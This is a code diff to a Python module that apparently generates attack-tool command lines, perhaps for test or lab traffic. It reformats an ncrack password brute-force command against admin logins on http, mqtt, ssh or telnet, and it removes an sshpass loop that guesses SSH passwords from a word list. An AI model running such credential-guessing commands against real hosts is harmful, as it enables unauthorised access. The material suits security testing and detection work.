@@ -197,7 +197,16 @@ def ncrack(s: Strike, *, service: str = "http", words: int = 120, connections: i
     listed = s.list_file("words", guesses(s.random, min(words, 600)))
     port = {"http": "80,path=/admin", "mqtt": "1883", "ssh": "22", "telnet": "23"}[service]
     target = f"{service}://{s.address}:{port}"
-    return ["ncrack", "--user", "admin", "-P", listed, "-g", f"CL={connections},cd=50ms,to={int(s.seconds)}s", target]
+    return [
+        "ncrack",
+        "--user",
+        "admin",
+        "-P",
+        listed,
+        "-g",
+        f"CL={connections},cd=50ms,to={int(s.seconds)}s",
+        target,
+    ]
 
 
 @tool("brute_force", package="nmap")
@@ -385,19 +394,6 @@ def patator(
         "telnet": ["telnet_login", f"host={s.address}", "inputs=admin\\nFILE0", "prompt_re=ogin:|assword:"],
     }[service]
     return ["patator", *where, "persistent=0", f"0={listed}", "-t", str(threads), f"--rate-limit={pause:g}"]
-
-
-@tool("brute_force", package="sshpass")
-def sshpass_guess(s: Strike, *, words: int = 60, pause: float = 0.2) -> list[str]:
-    """A loop of sshpass and OpenSSH's client over a word list: one connection a password."""
-    listed = s.list_file("words", guesses(s.random, min(words, 600)))
-    how = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 -o ConnectTimeout=4"
-    one = f'sshpass -p "$w" ssh {how} admin@{s.address} id </dev/null >/dev/null 2>&1'
-    return [
-        "sh",
-        "-c",
-        f"end=$(($(date +%s)+{int(s.seconds)})); while read -r w && [ $(date +%s) -lt $end ]; do {one}; sleep {pause}; done <{listed}",
-    ]
 
 
 def _wapiti(s: Strike, modules: str, *pages: str, keep: bool) -> list[str]:
